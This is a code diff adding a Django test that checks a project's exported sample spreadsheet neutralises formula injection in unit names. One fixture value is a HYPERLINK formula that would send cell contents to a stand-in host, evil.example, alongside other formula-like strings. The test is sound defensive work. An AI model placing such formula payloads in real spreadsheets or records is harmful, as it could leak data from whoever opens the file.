@@ -9,10 +9,11 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.http import HttpResponseBase
 from django.test import Client
 
+from motcua.org import services
 from motcua.org.acts import Role
 from motcua.org.selectors import actor_for
 from motcua.testing import facts
-from motcua.testing.office import DIVISION
+from motcua.testing.office import DIVISION, FIRST_DAY
 from tests.web.conftest import SignedIn
 from tests.web.pages import text
 
@@ -79,6 +80,18 @@ def test_lines_that_somebody_has_meddled_with_enter_nobody_wrong(as_role: Signed
     changed = lines(looked).replace("Chuyên viên", "administrator")
     assert browser.post(IMPORT, {"lines": changed}).status_code == 422
     assert actor_for("an.lt", today=facts.TODAY) is None
+
+
+def test_a_unit_called_like_a_formula_is_a_text_in_the_sample_sheet(admin: Client) -> None:
+    name = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    for number, called in enumerate((name, "{=1+1}", "https://evil.example", "+1", "@x")):
+        services.ensure_unit(code=f"H37.6{number}", name=called, valid_from=FIRST_DAY)
+    content: bytes = getattr(admin.get(f"{IMPORT}mau.xlsx"), "content", b"")
+    _, known = openpyxl.load_workbook(io.BytesIO(content)).worksheets
+    cells = [cell for row in known.iter_rows() for cell in row if cell.value is not None]
+    assert name in [cell.value for cell in cells]
+    assert {cell.data_type for cell in cells} == {"s"}
+    assert all(cell.hyperlink is None for cell in cells)
 
 
 def test_the_sample_sheet_has_the_columns_that_are_read(admin: Client) -> None:
